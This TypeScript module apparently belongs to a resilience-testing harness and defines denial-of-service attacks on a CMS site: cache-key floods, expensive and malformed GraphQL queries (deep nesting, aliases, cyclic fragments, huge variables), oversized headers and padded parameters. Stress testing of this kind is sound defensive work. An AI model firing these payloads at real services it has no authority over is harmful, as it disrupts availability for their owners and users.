import type { AttackContext } from '../attack-context'

/** Known and unknown parameters of every operation, with thousands of commas or brackets. */
export const sendCommas = (context: AttackContext) => {
  const texts = [
    ','.repeat(12_000),
    'a,'.repeat(6_000),
    '-'.repeat(12_000),
    `${'['.repeat(3_000)}x`,
    '%2C'.repeat(4_000),
    '&'.repeat(12_000),
  ]
  const parameters = context.targets.flatMap(({ host, target, headers, parameters: names }) =>
    [...names, ...names.map((name) => `${name}[or][0][id][in]`), 'other'].map((name) => ({
      host,
      target,
      headers,
      name,
    })),
  )
  return context.repeat(4, (serial, from) => {
    const { host, target, headers, name } = context.pick(parameters, serial)
    return context.sendRequest(from, {
      host,
      target: `${target}?${name}=${context.pick(texts, Math.floor(serial / parameters.length))}`,
      headers,
    })
  })
}

/** A new cache key each time: every request is a miss and fills the cache. */
export const floodKeys = (context: AttackContext) => {
  const toQuery: Record<string, (serial: number) => string> = {
    where: (serial) => `where[title][contains]=no-${serial}`,
    q: (serial) => `q=no${serial}`,
    page: (serial) => `page=${serial + 2}`,
    limit: (serial) => `limit=${(serial % 100) + 1}&page=${Math.floor(serial / 100) + 2}`,
  }
  const lists = context.targets.flatMap((target) =>
    target.parameters.filter((name) => toQuery[name]).map((name) => ({ ...target, name })),
  )
  const singles = context.targets.filter(({ target, method }) => method === 'GET' && /\/[^/]+\/[^/]+$/.test(target))
  return context.repeat(6, (serial, from) => {
    if (serial % 4 === 3) {
      const { host, target, headers } = context.pick(singles, serial)
      return context.sendRequest(from, { host, target: `${target.replace(/[^/]+$/, '')}${serial}`, headers })
    }
    const { host, target, headers, name } = context.pick(lists, serial)
    return context.sendRequest(from, { host, target: `${target}?${toQuery[name]!(serial)}`, headers })
  })
}

/** As many small cacheable responses as possible: errors of GraphQL queries, which need no database. */
export const floodSmallKeys = (context: AttackContext) =>
  context.repeat(6, (serial, from) =>
    context.sendRequest(from, {
      method: 'POST',
      target: '/api/graphql',
      headers: { 'content-type': 'application/json' },
      body: `{"query":"${serial}"}`,
    }),
  )

/** The most expensive cache misses: a hundred articles with everything they reference, filtered and sorted. */
export const floodExpensiveKeys = (context: AttackContext) =>
  context.repeat(6, (serial, from) => {
    const nots = Array.from(
      { length: 18 },
      (_, index) => `where[and][${index}][title][not_equals]=${serial}-${index}`,
    ).join('&')
    return context.sendRequest(from, {
      target: `/api/articles?limit=100&depth=10&sort=${context.pick(['title', '-updatedAt', 'author.name', 'slug'], serial)}&where[title][contains]=e&${nots}`,
    })
  })

/** Cache hits with every encoding, long conditions and ranges, and long Accept headers. */
export const floodHeaderVariants = (context: AttackContext) => {
  const fields: Record<string, string>[] = [
    { 'if-none-match': Array.from({ length: 700 }, (_, index) => `"${index}-etag"`).join(', ') },
    { 'if-none-match': `W/"${'x'.repeat(12_000)}"` },
    { range: `bytes=${Array.from({ length: 1_000 }, (_, index) => `${index * 2}-${index * 2}`).join(',')}` },
    { accept: Array.from({ length: 600 }, (_, index) => `a/b${index};q=0.${index % 10}`).join(',') },
    { accept: `text/html;${'x=y;'.repeat(2_500)}q=0` },
    { 'accept-encoding': Array.from({ length: 900 }, (_, index) => `x${index};q=0.5`).join(',') },
    { 'accept-encoding': 'br' },
    { 'accept-encoding': 'gzip;q=0.1, identity;q=0' },
    { 'if-modified-since': 'x'.repeat(9_000) },
    { cookie: `payload-token=${'x'.repeat(9_000)}` },
  ]
  return context.repeat(4, (serial, from) => {
    const { host, method, target, headers, body } = context.pick(context.targets, serial)
    return context.sendRequest(from, {
      host,
      method: method === 'GET' ? context.pick(['GET', 'HEAD'], serial) : method,
      target,
      headers: { ...headers, ...context.pick(fields, Math.floor(serial / 3)) },
      ...(body ? { body } : {}),
    })
  })
}

/** Pages, files and endpoints that do not exist. */
export const floodMissing = (context: AttackContext) =>
  context.repeat(6, (serial, from) => {
    const target = context.pick(
      [
        `/no-${serial}`,
        `/no-${serial}.md`,
        `/media/no-${serial}.png`,
        `/api/no-${serial}`,
        `/_next/static/no-${serial}.js`,
        `/assets/no-${serial}.css`,
        `/%${serial % 10}`,
        `/${'a/'.repeat(300)}${serial}`,
      ],
      serial,
    )
    return context.sendRequest(from, {
      host: context.pick(['content', 'catalogue'] as const, serial),
      target,
      headers: { accept: context.pick(['text/html', 'text/markdown', 'application/json'], serial) },
    })
  })

/** Queries that are expensive to parse, validate or execute. */
export const floodGraphQL = (context: AttackContext) => {
  const many = (count: number, toPart: (index: number) => string, separator = ' ') =>
    Array.from({ length: count }, (_, index) => toPart(index)).join(separator)
  const bodies = [
    JSON.stringify({
      query: '{ Articles { docs { id } } }',
      variables: Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`v${index}`, ',,,,'])),
    }),
    JSON.stringify({
      query: 'query($s: String) { Articles(sort: $s) { docs { id } } }',
      variables: { s: ','.repeat(90_000) },
    }),
    JSON.stringify({ query: `{ ${'Articles { docs { author { '.repeat(3_000)}` }),
    JSON.stringify({ query: `{ ${many(400, (index) => `a${index}: Articles(limit: 100) { docs { body } }`)} }` }),
    JSON.stringify({
      query: `{ ${many(10, (index) => `a${index}: Articles(limit: 20, page: ${index + 1}) { docs { id body author { name } } }`)} }`,
    }),
    JSON.stringify({ query: `query(${many(400, (index) => `$v${index}: Nope`)}) { Articles { docs { id } } }` }),
    JSON.stringify({ query: `{ Articles { docs { id ${'@skip(if: false) '.repeat(800)} } } }` }),
    JSON.stringify({
      query: `{ ...a } ${many(300, (index) => `fragment a${index || ''} on Query { ...a${index + 1} }`)}`,
    }),
    JSON.stringify({ query: '{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }' }),
    `{"query":"{ Articles { docs { id } } }","variables":${'['.repeat(40_000)}${']'.repeat(40_000)}}`,
    `[${many(200, () => '{"query":"{ Articles { totalDocs } }"}', ',')}]`,
    '{"query":"'.padEnd(99_000, 'a'),
    Buffer.alloc(300_000, 0xff),
  ]
  const headers = { 'content-type': 'application/json' }
  return context.repeat(4, (serial, from) =>
    context.sendRequest(from, { method: 'POST', target: '/api/graphql', headers, body: context.pick(bodies, serial) }),
  )
}
